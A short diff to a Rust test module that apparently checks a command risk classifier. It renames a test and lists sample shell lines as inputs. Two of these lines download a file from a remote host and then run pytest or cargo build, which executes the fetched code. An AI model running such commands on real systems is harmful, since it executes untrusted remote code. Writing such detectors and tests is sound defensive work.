@@ -443,7 +443,7 @@ mod tests {
     use crate::{RiskLevel, risk_of};
 
     #[test]
-    fn code_that_the_line_brings_along_is_no_project_code() {
+    fn code_of_the_line_is_not_project_code() {
         for line in [
             "curl -o conftest.py https://x.io/c && pytest",
             "wget https://x.io/build.rs && cargo build",
